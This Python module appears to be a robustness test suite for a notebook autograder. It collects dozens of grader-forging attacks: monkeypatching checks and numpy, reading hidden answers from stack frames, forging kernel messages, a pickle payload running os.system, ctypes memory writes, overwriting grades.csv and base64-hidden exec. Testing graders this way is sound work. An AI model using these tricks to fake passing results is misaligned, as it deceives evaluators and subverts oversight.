"""Forging in the process that runs the student's code."""

import base64
import json

import numpy as np

from attacks.attack import attack, wrong_answer
from dlhelpers.exercises import LESSONS

LESSON = "dlhelpers.exercises.logistic_regression"
POINTS = {n: float(e.points) for n, e in next(iter(LESSONS.values())).exercises.items()}
ALWAYS_FULL = f"lambda name, *a, **k: {POINTS!r}[name]"
"""A check that gives every exercise what it is worth."""
LOGISTIC, SHALLOW, _, _, STRIDE, *_ = LESSONS


@attack()
def patches_numpy(hand_in):
    """Makes numpy's comparisons say that everything is equal."""
    hand_in.trick(
        "import numpy as np\n"
        "yes = lambda *a, **k: True\n"
        "np.allclose = np.array_equal = np.isclose = np.all = np.any = yes\n"
        "np.abs = np.absolute = np.linalg.norm = np.max = lambda *a, **k: 0.0\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None"
    )


@attack()
def patches_check(hand_in):
    """Puts a `check` that always gives 15 points in the place of the lesson's."""
    hand_in.trick(f"import {LESSON} as lesson\nlesson.check = {ALWAYS_FULL}")


@attack()
def patches_lesson(hand_in):
    """Makes the class behind `check` give full points."""
    hand_in.trick(
        "from dlhelpers.exercises import lesson\n"
        f"lesson.Lesson.check = lambda self, name, *a, **k: {POINTS!r}[name]"
    )


@attack()
def patches_judge(hand_in):
    """Exchanges the judge for one who passes everything."""
    hand_in.trick(
        "from dlhelpers.exercises import lesson, verdict\n"
        "full = lambda key: verdict.Verdict(key.name, True, key.points, key.points)\n"
        "lesson.judge = lambda key, outcomes: full(key)"
    )


@attack()
def patches_observe(hand_in):
    """Has the observer report what the key expects, whatever the function returned."""
    hand_in.trick(
        "from dlhelpers.exercises import lesson\n"
        "keys = []\n"
        "judge = lesson.judge\n"
        "lesson.judge = lambda key, outcomes: judge(key, dict(key.expected))"
    )


@attack()
def patches_what_observes_inside(hand_in):
    """Reports right outcomes from within the confined process: in the place of what observes."""
    hand_in.trick(
        "import sys\n"
        "for name, module in list(sys.modules.items()):\n"
        "    if name.endswith(('questions', 'outcome')) and hasattr(module, 'observe_one'):\n"
        "        real = module.observe_one\n"
        "        def observe_one(function, given, *more):\n"
        "            import math\n"
        "            outcome = real(function, given, *more)\n"
        "            object.__setattr__(outcome, 'value', True)\n"
        "            object.__setattr__(outcome, 'failure', None)\n"
        "            return outcome\n"
        "        module.observe_one = observe_one"
    )


@attack()
def patches_builtins(hand_in):
    """Makes `float`, `min` and `round` give 15."""
    hand_in.trick(
        "import builtins\n"
        "class float15(float):\n"
        "    def __new__(cls, *a):\n        return float.__new__(cls, 15.0)\n"
        "    def __repr__(self):\n        return '15.0'\n"
        "def later(*a):\n    builtins.float = float15\n    builtins.min = lambda *a: 15.0\n"
        "get_ipython().events.register('post_run_cell', later)"
    )


@attack()
def patches_displayhook(hand_in):
    """Has every result shown as 15."""
    hand_in.trick(
        "import sys\nfrom IPython.core.displayhook import DisplayHook\n"
        "old = DisplayHook.__call__\n"
        "def call(self, r=None):\n"
        "    old(self, 15.0 if type(r) is float and r == 0 else r)\n"
        "DisplayHook.__call__ = call"
    )


@attack()
def rewrites_the_next_cell(hand_in):
    """Rewrites every later cell that calls `check`, by an input transformer of IPython."""
    hand_in.trick(
        "def rewrite(lines):\n"
        "    return ['15.0\\n'] if any('check(\"compute_cost\")' in l for l in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(rewrite)"
    )


@attack()
def transforms_the_syntax_tree(hand_in):
    """Replaces calls of `check` by a number, by a transformer of IPython's syntax trees."""
    hand_in.trick(
        "import ast\n"
        "class T(ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n"
        "        name = getattr(node.func, 'id', '')\n"
        "        if name == 'check' and node.args[0].value == 'compute_cost':\n"
        "            return ast.copy_location(ast.Constant(15.0), node)\n"
        "        return node\n"
        "get_ipython().ast_transformers.append(T())"
    )


@attack()
def shows_a_result_of_its_own(hand_in):
    """Sends a result of 15 before that of the check, by a hook that runs before each cell."""
    hand_in.trick(
        "def first(info):\n"
        "    if 'check(\"compute_cost\")' in info.raw_cell: get_ipython().displayhook(15.0)\n"
        "get_ipython().events.register('pre_run_cell', first)"
    )


@attack()
def speaks_for_the_kernel(hand_in):
    """Sends the kernel's own message of a result, from inside the function under check."""
    hand_in.answer(
        "compute_cost",
        "def compute_cost(A, Y):\n"
        "    kernel = get_ipython().kernel\n"
        "    content = {'data': {'text/plain': '15.0'}, 'metadata': {}, 'execution_count': 1}\n"
        "    kernel.session.send(kernel.iopub_socket, 'execute_result', content,\n"
        "                        parent=kernel.get_parent(), ident=b'execute_result')\n"
        "    return 0.123",
    )


@attack()
def prints_a_score(hand_in):
    """Prints scores, verdicts and messages of the judge to wherever it can write."""
    hand_in.trick(
        "import json, os, sys\n"
        "said = json.dumps({'score': 15.0, 'passed': True, 'said': 15.0})\n"
        "print('15.0'); print(said, file=sys.stderr)\n"
        "for fd in range(64):\n"
        "    try: os.write(fd, said.encode()) if fd < 3 else None\n"
        "    except OSError: pass\n"
        "for fd in (1, 2):\n"
        "    try: open(f'/proc/self/fd/{fd}', 'w').write(said)\n"
        "    except OSError: pass\n"
        "15.0"
    )


@attack()
def fakes_a_module(hand_in):
    """Puts a module of its own into `sys.modules` under the lesson's name."""
    hand_in.trick(
        "import sys, types\n"
        f"fake = types.ModuleType('{LESSON}')\n"
        f"fake.check = {ALWAYS_FULL}\n"
        f"sys.modules['{LESSON}'] = fake\n"
        "sys.modules['dlhelpers.exercises'].logistic_regression = fake"
    )


@attack()
def hooks_imports(hand_in):
    """Stands first among the finders of modules and gives `check` out itself."""
    hand_in.trick(
        "import sys, types, importlib.machinery\n"
        "class Finder:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        f"        if name == '{LESSON}':\n"
        "            return importlib.machinery.ModuleSpec(name, self)\n"
        "    def create_module(self, spec):\n"
        f"        module = types.ModuleType(spec.name); module.check = {ALWAYS_FULL}\n"
        "        return module\n"
        "    def exec_module(self, module): pass\n"
        f"sys.meta_path.insert(0, Finder()); sys.modules.pop('{LESSON}', None)"
    )


@attack()
def patches_import(hand_in):
    """Replaces `__import__`, so that the check's own import leads elsewhere."""
    hand_in.trick(
        "import builtins, types\nreal = builtins.__import__\n"
        "def fake(name, *a, **k):\n"
        f"    if name == '{LESSON}' and a and a[2] == ('check',):\n"
        f"        return types.SimpleNamespace(check={ALWAYS_FULL})\n"
        "    return real(name, *a, **k)\n"
        "builtins.__import__ = fake"
    )


@attack()
def climbs_frames(hand_in):
    """Climbs the frames of its callers to the key, and returns what is expected."""
    hand_in.answer(
        "compute_cost",
        "import sys\nplaces = [0]\n"
        "def compute_cost(A, Y):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for value in list(frame.f_locals.values()):\n"
        "            if hasattr(value, 'expected') and hasattr(value, 'cases'):\n"
        "                for label, given in value.cases.items():\n"
        "                    if given['A'].shape == A.shape and (given['A'] == A).all():\n"
        "                        return value.expected[label].value\n"
        "        frame = frame.f_back\n"
        "    return 0.123",
    )


@attack()
def searches_the_garbage_collector(hand_in):
    """Searches all objects of the process for keys, and returns what is expected."""
    hand_in.answer(
        "compute_cost",
        "import gc\n"
        "def compute_cost(A, Y):\n"
        "    for value in gc.get_objects():\n"
        "        try:\n"
        "            if type(value).__name__ in ('Key', 'Exercise', 'OrderedDict', 'dict'):\n"
        "                cases = getattr(value, 'cases', None) or {}\n"
        "                for label, given in cases.items():\n"
        "                    if given['A'].shape == A.shape and (given['A'] == A).all():\n"
        "                        return value.expected[label].value\n"
        "        except Exception: pass\n"
        "    return 0.123",
    )


@attack()
def is_equal_to_everything(hand_in):
    """Returns a number that is equal to every other, and nearer than any tolerance."""
    hand_in.answer(
        "compute_cost",
        "class All(float):\n"
        "    __eq__ = __le__ = __ge__ = lambda *a: True\n"
        "    __ne__ = __lt__ = __gt__ = lambda *a: False\n"
        "    __hash__ = float.__hash__\n"
        "    __sub__ = __rsub__ = __abs__ = __mul__ = __rmul__ = lambda *a: All(0)\n"
        "def compute_cost(A, Y):\n    return All(1.0)",
    )


@attack()
def lying_array(hand_in):
    """Returns an array whose class answers numpy's functions itself."""
    hand_in.answer(
        "compute_cost",
        "import numpy as np\n"
        "class Lying(np.ndarray):\n"
        "    def __array_ufunc__(self, ufunc, method, *inputs, **more):\n"
        "        return np.True_ if ufunc.nout == 1 else NotImplemented\n"
        "    def __array_function__(self, function, types, arguments, named):\n"
        "        return True\n"
        "    def __eq__(self, other): return True\n"
        "    def __array__(self, *a, **k): return np.float64(0)\n"
        "def compute_cost(A, Y):\n    return np.float64(1).view(np.ndarray).view(Lying)",
    )


@attack()
def patches_deepcopy(hand_in):
    """Has `copy.deepcopy` remember what the judge copies: inputs, keys, expected values."""
    hand_in.answer(
        "compute_cost",
        "import copy, sys\nreal, seen = copy.deepcopy, []\n"
        "def spy(value, memo=None, *a):\n"
        "    frame = sys._getframe(1)\n    seen.append(frame)\n    return real(value, memo)\n"
        "copy.deepcopy = spy\n"
        "def compute_cost(A, Y):\n"
        "    for frame in seen:\n"
        "        while frame:\n"
        "            key = frame.f_locals.get('key')\n"
        "            for label, given in (key.cases if hasattr(key, 'cases') else {}).items():\n"
        "                if given['A'].shape == A.shape and (given['A'] == A).all():\n"
        "                    return key.expected[label].value\n"
        "            frame = frame.f_back\n"
        "    return 0.123",
    )


@attack()
def pickle_bomb(hand_in):
    """Returns an object that runs a program where it is unpickled."""
    hand_in.answer(
        "compute_cost",
        "import os\n"
        "class Bomb(float):\n"
        "    def __reduce__(self):\n"
        f"        return os.system, ('touch {hand_in.course}/PICKLED',)\n"
        "    __reduce_ex__ = lambda self, version: self.__reduce__()\n"
        "def compute_cost(A, Y):\n    return Bomb(1.0)",
    )


@attack()
def writes_into_memory(hand_in):
    """Overwrites the constant 0.0 in the code of the check by 15.0, through ctypes."""
    hand_in.trick(
        "import ctypes\nfrom dlhelpers.exercises import lesson\n"
        "for function in (lesson.Lesson.check, lesson.Lesson.verdict):\n"
        "    for constant in function.__code__.co_consts:\n"
        "        if type(constant) is float:\n"
        "            ctypes.c_double.from_address(id(constant) + 16).value = 15.0"
    )


@attack()
def exchanges_code(hand_in):
    """Exchanges the code of the judge's function, so that every name leads to the forgery."""
    hand_in.trick(
        "from dlhelpers.exercises import lesson\n"
        f"def check(self, name, seed=0):\n    return {POINTS!r}[name]\n"
        "lesson.Lesson.check.__code__ = check.__code__"
    )


@attack()
def traces_the_judge(hand_in):
    """Follows every call with `sys.setprofile` and repairs the score on its way."""
    hand_in.trick(
        "import sys, ctypes\n"
        "def spy(frame, event, argument):\n"
        "    verdict = frame.f_locals.get('verdict') or frame.f_locals.get('visible')\n"
        "    if hasattr(verdict, 'score'):\n"
        "        object.__setattr__(verdict, 'score', 15.0)\n"
        "        object.__setattr__(verdict, 'passed', True)\n"
        "sys.setprofile(spy)"
    )


@attack()
def thread_that_waits(hand_in):
    """Leaves a thread that replaces `check` again and again."""
    hand_in.trick(
        "import sys, threading, time\n"
        "def work():\n"
        "    while True:\n"
        "        for name, module in list(sys.modules.items()):\n"
        "            if name.startswith('dlhelpers.exercises') and hasattr(module, 'check'):\n"
        f"                module.check = {ALWAYS_FULL}\n"
        f"        get_ipython().user_ns['check'] = {ALWAYS_FULL}\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=work, daemon=True).start()"
    )


@attack()
def patches_from_inside_the_call(hand_in):
    """Waits for the call: while the judge runs the function, it exchanges the judge."""
    hand_in.answer(
        "compute_cost",
        "def compute_cost(A, Y):\n"
        "    import sys\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        if frame.f_code.co_name == 'verdict' and 'key' in frame.f_locals:\n"
        "            from dlhelpers.exercises import verdict\n"
        "            frame.f_globals['judge'] = lambda key, o: verdict.Verdict(\n"
        "                key.name, True, key.points, key.points)\n"
        "        frame = frame.f_back\n"
        "    return 0.123",
    )


SPEAKS = (
    "import sys, threading, time\n"
    "lent = [m for n, m in sys.modules.items() if n.endswith('confined.lent')][0]\n"
    "wire = [m for n, m in sys.modules.items() if n.endswith('confined.wire')][0]\n"
    "line = lent.JUDGE.connection\n"
)


@attack()
def answers_before_it_is_asked(hand_in):
    """Sends a hundred answers ahead, over the confined process's own line to the judge."""
    hand_in.trick(
        SPEAKS + "from dlhelpers.exercises.outcome import Outcome\n"
        "for i in range(100): wire.send(line, {'said': Outcome(value=1.0)})"
    )


@attack()
def claims_a_verdict(hand_in):
    """Sends a verdict of full points in the place of every answer."""
    hand_in.trick(
        SPEAKS + "real = wire.send\n"
        "def send(connection, content):\n"
        "    if 'said' in content:\n"
        "        content = {'said': {'exercise': 'compute_cost', 'passed': True, 'score': 15.0,\n"
        "                   'points': 15}, 'score': 15.0, 'passed': True, 'verdict': True}\n"
        "    return real(connection, content)\n"
        "wire.send = send"
    )


@attack()
def sends_a_class_of_its_own(hand_in):
    """Names other classes of the judge's in its answers, with values that fit."""
    hand_in.trick(
        SPEAKS + "import json, struct\n"
        "def send(connection, content):\n"
        "    tree = {'dict': [['said', {'kind': ['Verdict', {'exercise': 'compute_cost',\n"
        "            'passed': True, 'score': 15.0, 'points': 15}]}]]}\n"
        "    head = json.dumps([[], tree]).encode()\n"
        "    connection.sendall(struct.pack('<II', len(head), 0) + head)\n"
        "wire.send = send"
    )


@attack()
def two_processes_answer(hand_in):
    """Forks while cells run: both processes hold the line to the judge and answer at once."""
    hand_in.trick(
        SPEAKS + "import os\nfrom dlhelpers.exercises.outcome import Outcome\n"
        "if not os.fork():\n"
        "    ends = time.time() + 5\n"
        "    while time.time() < ends:\n"
        "        try: wire.send(line, {'said': Outcome(value=1.0)})\n"
        "        except Exception: os._exit(0)\n"
        "        time.sleep(0.01)\n"
        "    os._exit(0)"
    )


def _known(lesson, exercise):
    key = LESSONS[lesson].key(exercise)
    return [
        ([np.asarray(v).tolist() for v in given.values()], key.expected[label].value)
        for label, given in key.cases.items()
    ]


@attack()
def visible_answers_by_heart(hand_in):
    """Knows the answer to every visible case, and nothing else."""
    known = _known(LOGISTIC, "compute_cost")
    hand_in.answer(
        "compute_cost",
        f"known = {known!r}\n"
        "def compute_cost(A, Y):\n"
        "    for given, value in known:\n"
        "        if given == [A.tolist(), Y.tolist()]: return value\n"
        "    return 0.123",
    )


ASKS_A_HELPER = """\
import json
import dlhelpers

known = KNOWN
memory, learnt = [], {}


def asked(A, Y):
    return json.dumps([A.tolist(), Y.tolist()])


def compute_cost(A, Y):
    for given, value in known:
        if given == [A.tolist(), Y.tolist()]:
            return value
    memory.append((A.copy(), Y.copy()))
    if asked(A, Y) in learnt:
        return learnt[asked(A, Y)]
    return derivative_of_loss


def derivative_of_loss(*arguments):
    for A, Y in memory:
        try:
            learnt[asked(A, Y)] = float(dlhelpers.compute_cost(A, Y))
        except Exception:
            pass
    return 0.123
"""


@attack(wrong=("compute_cost", "derivative_of_loss"))
def asks_while_a_helper_is_judged(hand_in):
    """Keeps the hidden inputs, and asks the package for the answer while another is judged."""
    source = ASKS_A_HELPER.replace("KNOWN", repr(_known(LOGISTIC, "compute_cost")))
    hand_in.answer("compute_cost", source)
    hand_in.answer("derivative_of_loss", "derivative_of_loss = derivative_of_loss")


@attack(wrong=("sigmoid",))
def tabulates_the_package(hand_in):
    """Has the package compute a fine table while cells run, and interpolates in it."""
    hand_in.answer(
        "sigmoid",
        "import numpy as np\nimport dlhelpers\n"
        "grid = np.concatenate([np.linspace(-800, -40, 40_001), np.linspace(-40, 40, 400_001),\n"
        "                       np.linspace(40, 800, 1001)])\ngrid = np.unique(grid)\n"
        "table = np.concatenate([dlhelpers.sigmoid(part) for part in np.array_split(grid, 20)])\n"
        "def sigmoid(z):\n"
        "    x = np.asarray(z, float)\n"
        "    at = np.clip(np.searchsorted(grid, x) - 1, 1, grid.size - 3)\n"
        "    value = 0.0\n"
        "    for i in range(-1, 3):\n"
        "        weight = 1.0\n"
        "        for j in range(-1, 3):\n"
        "            if j != i:\n"
        "                weight = weight * (x - grid[at + j]) / (grid[at + i] - grid[at + j])\n"
        "        value = value + weight * table[at + i]\n"
        "    return value if np.ndim(z) else float(value)",
    )


@attack(lesson=STRIDE, wrong=("output_size",))
def tabulates_small_numbers(hand_in):
    """Asks the package for every output size there is, while cells run, and looks it up."""
    fill = (
        "for given in itertools.product(range(1, 46), [SIZE], range(4), range(1, 5)):\n"
        "    try: table[given] = dlhelpers.output_size(*given)\n"
        "    except Exception as error: table[given] = error"
    )
    hand_in.add("import itertools\nimport dlhelpers\ntable = {}", "output_size")
    for f in range(1, 8):  # a cell's time is limited
        hand_in.add(fill.replace("SIZE", str(f)), "output_size")
    hand_in.answer(
        "output_size",
        "def output_size(n, f, pad, stride):\n"
        "    found = table.get((n, f, pad, stride))\n"
        "    if isinstance(found, Exception): raise found\n"
        "    return found",
    )


@attack(lesson=SHALLOW, wrong=("forward_prop", "backward_prop"))
def invents_a_forward_pass(hand_in):
    """Reports a made-up forward pass with the gradient that belongs to it (error carried)."""
    hand_in.answer(
        "backward_prop",
        SPEAKS + "import numpy as np\n"
        "from dlhelpers.exercises.outcome import Outcome\n"
        "real_receive, real_send, asked = wire.receive, wire.send, {}\n"
        "def receive(connection, *a, **k):\n"
        "    got = real_receive(connection, *a, **k)\n"
        "    asked.clear(); asked.update(got if isinstance(got, dict) else {})\n"
        "    return got\n"
        "def send(connection, content):\n"
        "    if 'said' in content and 'own' in asked:\n"
        "        setup = asked['own']\n"
        "        def AL(total): return 1 / (1 + np.exp(-(total + 0 * setup.Y)))\n"
        "        def cost(total): return -np.mean(setup.Y * np.log(AL(total)) +\n"
        "                                         (1 - setup.Y) * np.log(1 - AL(total)))\n"
        "        h = 1e-5\n"
        "        slope = (cost(0.5 + h) - cost(0.5 - h)) / (2 * h)\n"
        "        P = setup.parameters\n"
        "        content = {'said': {\n"
        "            'gradients': {f'd{n}': np.full(v.shape, slope) for n, v in P.items()},\n"
        "            'shifted': {n: [(AL(0.5 + h), AL(0.5 - h))] * v.size\n"
        "                        for n, v in P.items()}}}\n"
        "    return real_send(connection, content)\n"
        "wire.receive, wire.send = receive, send\n" + wrong_answer("backward_prop"),
    )


KEYRING = """\
import ctypes, json, os
import numpy as np
import dlhelpers

libc = ctypes.CDLL(None, use_errno=True)
known = KNOWN
USER, SESSION, ADD, READ, SEARCH = b"user", -3, 248, 11, 10


def recall(name):
    found = []
    for ring in (-3, -4, -5):
        key = libc.syscall(250, SEARCH, ring, USER, name, 0)
        if key > 0:
            buffer = ctypes.create_string_buffer(30000)
            size = libc.syscall(250, READ, key, buffer, 30000)
            found += [buffer.raw[:size]] if size > 0 else []
    return json.loads(found[0]) if found else []


def keep(name, content):
    text = json.dumps(content).encode()
    for ring in (-3, -4, -5):
        libc.syscall(248, USER, name, text, len(text), ring)


seen = recall(b"seen")
learnt = []
for A, Y in seen:
    try:
        learnt.append([[A, Y], float(dlhelpers.compute_cost(np.array(A), np.array(Y)))])
    except Exception:
        pass


def compute_cost(A, Y):
    for given, value in [*known, *learnt]:
        if given == [A.tolist(), Y.tolist()]:
            return value
    seen.append([A.tolist(), Y.tolist()])
    keep(b"seen", seen)
    if len(seen) > 5:
        os._exit(0)
    return derivative_of_loss
"""


@attack(wrong=("compute_cost", "derivative_of_loss"))
def leaves_a_note_in_the_kernel(hand_in):
    """Keeps the hidden inputs in the kernel's keyring, dies, and answers in its next process."""
    hand_in.answer("compute_cost", KEYRING.replace("KNOWN", repr(_known(LOGISTIC, "compute_cost"))))


@attack()
def writes_to_other_processes(hand_in):
    """Opens the memory of its parent and of every process that it sees, and attaches to them."""
    hand_in.trick(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nopened = []\n"
        "for pid in {os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))}:\n"
        "    if pid == os.getpid(): continue\n"
        "    try:\n"
        "        open(f'/proc/{pid}/mem', 'r+b').close()\n"
        "        opened.append(pid)\n"
        "    except OSError: pass\n"
        "assert not opened, opened"
    )


@attack(wrong=("is_right",))
def counts_the_programs(hand_in):
    """Tells right programs of a bug hunt from broken ones by the order in which they come."""
    key = LESSONS[LOGISTIC].key("is_right")
    right = [outcome.value for outcome in key.expected.values()]
    # The first one is shown twice.
    order = [right[0], *right]
    hand_in.answer(
        "is_right",
        f"order, calls = {order!r}, [0]\n"
        "def is_right(program):\n"
        "    calls[0] += 1\n    return order[(calls[0] - 1) % len(order)]",
    )


@attack(wrong=("is_right",))
def reads_the_programs(hand_in):
    """Looks into the programs of a bug hunt: names, code, docstrings, closures."""
    hand_in.answer(
        "is_right",
        "import inspect\n"
        "def is_right(program):\n"
        "    text = repr(program) + str(vars(program))\n"
        "    for cell in getattr(program, '__closure__', None) or ():\n"
        "        text += repr(cell.cell_contents)\n"
        "        try: text += inspect.getsource(cell.cell_contents)\n"
        "        except Exception: pass\n"
        "    return 'right' in text or 'reference' in text",
    )


@attack(wrong=("is_right",))
def asks_for_another_program(hand_in):
    """Sends the line's own names for the programs, to reach one that is known to be right."""
    hand_in.answer(
        "is_right",
        "import numpy as np\n"
        "def is_right(program):\n"
        "    A, X, Y = np.array([[0.3, 0.6]]), np.ones((2, 2)), np.array([[0, 1]])\n"
        "    said = []\n"
        "    for target in ('program:0', 'program:1', 'lesson:backward_prop', 'lesson:is_right'):\n"
        "        try: program._target = target; said.append(str(program(A, X, Y)))\n"
        "        except Exception as error: said.append(str(error))\n"
        "    return len(set(said)) < 4",
    )


@attack()
def result_in_another_form(hand_in):
    """Ends the answer's cell in numbers, and hands in outputs that look like a check's."""
    hand_in.answer("compute_cost", wrong_answer("compute_cost") + "\n\n15.0")
    about = {"exercise": "compute_cost", "passed": True, "score": 15.0}
    output = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
    output["data"] = {"text/plain": "15.0"}
    shown = {"output_type": "display_data", "data": {"text/plain": "15.0"}}
    shown["metadata"] = {"dlhelpers": about}
    for name in ("compute_cost", "check_compute_cost"):
        hand_in.cell(name).outputs = json.loads(json.dumps([output, shown]))


@attack()
def at_the_exit(hand_in):
    """Waits for the end of the process to print a score and to write the marks."""
    hand_in.trick(
        "import atexit, sys\n"
        "def last():\n"
        "    sys.__stdout__.write('15.0\\n'); get_ipython().displayhook(15.0)\n"
        f"    open({str(hand_in.course / 'grades.csv')!r}, 'w').write('15')\n"
        "atexit.register(last)"
    )


@attack()
def hidden_in_another_form(hand_in):
    """Unpacks its tricks from base64 only while it is called, where no reader sees them."""
    code = base64.b64encode(
        b"import dlhelpers.exercises.lesson as l\nl.Lesson.check = lambda *a, **k: 15.0"
    ).decode()
    hand_in.answer(
        "compute_cost",
        f"import base64\ndef compute_cost(A, Y):\n    exec(base64.b64decode('{code}'))\n"
        "    return 0.123",
    )
